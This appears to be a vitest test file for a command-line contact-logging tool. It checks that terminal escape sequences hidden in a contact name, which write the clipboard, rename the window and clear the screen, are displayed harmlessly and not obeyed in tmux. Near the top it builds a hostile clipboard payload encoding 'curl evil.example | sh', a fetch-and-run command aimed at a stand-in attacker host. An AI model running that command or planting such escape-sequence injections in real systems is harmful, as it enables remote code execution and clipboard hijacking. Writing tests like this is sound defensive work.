// Prompts in a real terminal with a name any import can bring: OSC 52 (write the clipboard),
// OSC 0 (rename the window) and CSI 2J (clear the screen). tmux obeys all three when they reach
// it, so the screen, the pane title and tmux's paste buffers show whether one did.
import { join } from "node:path";
import { expect, it } from "vitest";
import { BIN } from "../helpers/cli.js";
import { tempDir } from "../helpers/ctx.js";
import { netlogInProcess } from "../helpers/in-process.js";
import { needs } from "../helpers/needs.js";
import { Terminal } from "../helpers/tmux.js";

const TODAY = "2026-11-25";
const PAYLOAD = Buffer.from("curl evil.example | sh").toString("base64");
const NAME = `Zed \u001b]52;c;${PAYLOAD}\u0007\u001b]0;PWNED\u0007\u001b[2J Person`;
const SHOWN = `Zed ␛]52;c;${PAYLOAD}␇␛]0;PWNED␇␛[2J Person`;
const EARLIER = "EARLIER-SCREEN-CONTENT";

async function setUp() {
  const db = join(tempDir(), "netlog.db");
  const env = { NETLOG_DB: db, TZ: "America/Los_Angeles" };
  await netlogInProcess(["--today", "2026-11-01", "contact", "add", NAME, "--company", "Acme\u001b[2J"], env);
  await netlogInProcess(["--today", "2026-11-01", "contact", "add", "Zed Other"], env);
  const run = (args: string) =>
    new Terminal(
      `echo ${EARLIER}; env -u CI -u NO_COLOR -u FORCE_COLOR NETLOG_DB='${db}' TZ=America/Los_Angeles '${process.execPath}' '${BIN}' --today ${TODAY} ${args}`,
      // OSC 52 from the program reaches tmux's buffers only with set-clipboard on.
      "set -s set-clipboard on\n",
    );
  const stored = async () => JSON.parse((await netlogInProcess(["contact", "show", "#1", "--json"], env)).stdout) as { name: string; company: string };
  const logged = async (id: string) => JSON.parse((await netlogInProcess(["contact", "show", id, "--json"], env)).stdout).interactions.length as number;
  return { run, stored, logged };
}

/** Nothing obeyed: the earlier line still on the screen, the title tmux gave the pane, no buffer. */
function expectUntouched(terminal: Terminal, screen: string) {
  expect(screen).toContain(EARLIER);
  expect(terminal.title()).not.toContain("PWNED");
  expect(terminal.buffers()).toBe("");
}

needs("tmux").describe("prompts with a hostile name in a terminal", () => {
  it("the chooser of an ambiguous name shows the escape codes as ␛, and obeys none", async () => {
    const { run, logged } = await setUp();
    const terminal = run("add zed --via email");
    const title = terminal.title();
    const screen = await terminal.waitFor("'zed' matches 2 contacts. Which one?");
    expect(screen).toContain(`❯ ${SHOWN} (Acme␛[2J) #1`);
    expectUntouched(terminal, screen);
    terminal.type("Enter");
    const done = await terminal.waitFor("[exit 0]");
    expect(done).toContain(`Logged email with ${SHOWN} (you wrote), today.`);
    expectUntouched(terminal, done);
    expect(terminal.title()).toBe(title);
    expect(await logged("#1")).toBe(1);
  });

  it("the picker of netlog add lists the close matches the same way", async () => {
    const { run, logged } = await setUp();
    const terminal = run("add");
    await terminal.waitFor("Who did you talk to?");
    terminal.type("Zed");
    const screen = await terminal.waitFor("Zed Other");
    expect(screen).toContain(`❯ ${SHOWN} (Acme␛[2J)`);
    expectUntouched(terminal, screen);
    terminal.type("Enter");
    await terminal.waitFor("How?");
    terminal.type("C-c");
    expectUntouched(terminal, await terminal.waitFor("[exit 130]"));
    expect(await logged("#1")).toBe(0);
  });

  it("the contact edit form shows the name as its default, and Enter keeps the stored name", async () => {
    const { run, stored } = await setUp();
    const terminal = run("contact edit '#1'");
    const screen = await terminal.waitFor("Name (Enter keeps a value");
    // The default, dim after the question, wraps at 120 columns.
    expect(screen.replaceAll("\n", "")).toContain(`it): (${SHOWN})`);
    expectUntouched(terminal, screen);
    // Enter on each field, once it is asked: a key typed between two questions is lost.
    for (const next of ["Company:", "Title:", "Email:", "Phone:", "LinkedIn URL:", "Location:", "How you met:", "Touch base how often", "Tags", "Notes:"]) {
      terminal.type("Enter");
      await terminal.waitFor(`? ${next}`);
    }
    terminal.type("Enter");
    const done = await terminal.waitFor("[exit 0]");
    expect(done).toContain(`Nothing changed: ${SHOWN} (Acme␛[2J) already has these values.`);
    expectUntouched(terminal, done);
    expect(await stored()).toMatchObject({ name: NAME, company: "Acme\u001b[2J" });
  });
});
